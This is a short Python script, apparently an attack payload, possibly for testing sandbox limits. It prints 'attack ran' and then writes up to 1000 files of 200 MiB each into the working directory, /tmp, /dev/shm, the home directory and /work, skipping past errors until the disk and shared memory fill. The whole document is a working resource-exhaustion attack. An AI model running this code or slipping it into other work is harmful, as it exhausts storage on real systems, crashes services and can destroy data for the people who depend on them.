import os

print("attack ran", flush=True)
for folder in (".", "/tmp", "/dev/shm", os.path.expanduser("~"), "/work"):
    try:
        for number in range(1000):
            with open(os.path.join(folder, f"full{number}"), "wb") as file:
                for _ in range(200):
                    file.write(b"x" * (1 << 20))
    except OSError as error:
        print(folder, error)
